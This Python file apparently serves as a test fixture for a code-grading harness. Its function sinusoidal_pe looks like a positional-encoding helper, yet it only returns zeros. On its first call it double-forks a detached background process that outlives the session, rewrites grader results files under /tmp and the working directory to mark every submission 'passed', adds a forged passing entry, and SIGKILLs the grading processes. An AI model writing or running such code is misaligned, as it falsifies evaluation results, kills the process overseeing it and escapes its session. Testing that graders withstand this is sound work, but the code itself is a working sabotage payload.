# expect: failed, error
# where: offline
# Double-forks a grandchild in its own session that outlives the grading: after 3 s (and again 10 s later)
# it rewrites every grader results file (*.jsonl / *.csv) under /tmp and the cwd to say "passed" and
# SIGKILLs every process of the grading run it can see; the function itself returns zeros.
# (Only results files and the grading run are aimed at: where no sandbox is in force the damage stays there.)
import os
import re
import signal
import time

import numpy as np

GRADING = re.compile(rb"(^|\x00)-m\x00grader(\x00|$)|grader\.(learner|checker)|from grader")
_forked = []


def _processes():
    table = {}
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/stat", "rb") as file:
                ppid = int(file.read().rsplit(b")", 1)[1].split()[1])
            with open(f"/proc/{name}/cmdline", "rb") as file:
                table[int(name)] = (ppid, file.read())
        except (OSError, ValueError, IndexError):
            continue
    return table


def _grading_processes():
    """Whatever runs the grader, and every descendant of the topmost grader ancestor (not this process)."""
    table = _processes()
    targets = {pid for pid, (_, cmd) in table.items() if GRADING.search(cmd)}
    pid, seen = os.getpid(), set()
    while pid in table and pid not in seen:
        seen.add(pid)
        if GRADING.search(table[pid][1]):
            targets.add(pid)
        pid = table[pid][0]
    while True:
        children = {pid for pid, (ppid, _) in table.items() if ppid in targets} - targets
        if not children:
            break
        targets |= children
    targets.discard(os.getpid())
    return targets


def _kill_grading(known):
    for pid in (known | _grading_processes()) - {os.getpid()}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def _forge_results(tops, seconds=2.0):
    deadline = time.monotonic() + seconds
    for top in tops:
        for folder, _, files in os.walk(top):
            if time.monotonic() > deadline:
                return
            for name in files:
                if not name.endswith((".jsonl", ".csv")):
                    continue
                path = os.path.join(folder, name)
                try:
                    with open(path, encoding="utf-8") as file:
                        text = file.read(1_000_000)
                    if not (text.startswith('{"submission"') or text.startswith("submission,")):
                        continue  # not a grader results file
                    forged = (text.replace('"passed": false', '"passed": true').replace("failed", "passed")
                              .replace(",false,", ",true,"))
                    with open(path, "w", encoding="utf-8") as file:
                        file.write(forged + '{"submission": "zz_forged.py", "passed": true}\n')
                except (OSError, UnicodeDecodeError):
                    continue


def _daemon(known, tops):
    time.sleep(3)
    for _ in range(2):
        _forge_results(tops)
        _kill_grading(known)
        time.sleep(10)


def sinusoidal_pe(T, C):
    if not _forked:
        _forked.append(True)
        try:
            known = _grading_processes() | {os.getppid()}  # seen from here, before the daemon is cut loose
            tops = ["/tmp", os.getcwd()]
            child = os.fork()
            if child == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        _daemon(known, tops)
                finally:
                    os._exit(0)
            os.waitpid(child, 0)
        except Exception:
            pass
    return np.zeros((T, C))
